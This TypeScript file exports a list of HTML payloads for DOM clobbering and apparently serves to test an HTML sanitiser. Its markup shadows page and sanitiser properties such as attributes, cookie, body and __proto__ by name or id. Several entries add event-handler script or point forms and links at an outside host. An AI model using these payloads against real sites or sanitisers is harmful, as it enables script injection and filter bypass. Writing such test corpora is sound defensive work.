import { FAR, RUN, type Family } from './payload';

/** Names and ids that shadow properties of the page or the sanitiser. */
export const CLOBBERING: Family = {
  'an attribute list by name': `<form><input name="attributes"><img src="x:" onerror="${RUN}"></form>`,
  'a form’s own attributes': `<form onclick="${RUN}"><input name="attributes"><input name="removeAttribute">Press</form>`,
  'a node’s name by name': `<form><input name="nodeName"><input name="tagName"><input name="localName"></form>`,
  'children by name': `<form><input name="childNodes"><input name="firstChild"><input name="children"></form>`,
  'a parent by name': `<form><input id="parentNode"><input id="parentElement"><input id="nextSibling"></form>`,
  'methods by name': `<form><input name="setAttribute"><input name="getAttribute"><input name="remove"></form>`,
  'a namespace by name': `<form><input name="namespaceURI"><input name="textContent"><input name="innerHTML"></form>`,
  'a root by name': `<form><input name="getRootNode"><input name="ownerDocument"><input name="nodeType"></form>`,
  'the body by name': `<img name="body"><form name="body"></form><p>Words</p>`,
  'the document’s element by name': `<form name="documentElement"></form><img name="head">`,
  'the document’s methods by name': `<img name="createElement"><img name="querySelectorAll"><img name="importNode">`,
  'the document’s implementation by name': `<object id="implementation"></object><embed name="defaultView">`,
  'the document’s cookie by name': `<img name="cookie"><form name="location"></form>`,
  'the console by name': `<a id="console"></a><a id="dataLayer" href="${FAR}">Words</a>`,
  'a collection of two': `<a id="settings"></a><a id="settings" name="apiBase" href="${FAR}">Words</a>`,
  'a frame’s name': `<iframe name="top" srcdoc="<a id=struck href=a:1>"></iframe>`,
  'a nested collection': `<form id="x"><output name="y">1</output></form><form id="x"></form>`,
  'the component’s own ids': `<p id=":r1:" id="_r_1_">Words</p><label for="_r_1_">Words</label>`,
  'the component’s own classes': `<div class="content card alert error-summary" part="card response">Words</div>`,
  'the component’s own parts': `<slot name="card"></slot><p slot="card" exportparts="card: card">Words</p>`,
  'descriptions of others': `<p aria-labelledby="_r_0_" aria-describedby="_r_1_" role="alert">Words</p>`,
  'a form that takes others in': `<form id="f" action="${FAR}"></form><input form="f"><button form="f">Go</button>`,
  'ids of the prototype': `<a id="__proto__"></a><a id="constructor" name="prototype">Words</a>`,
};
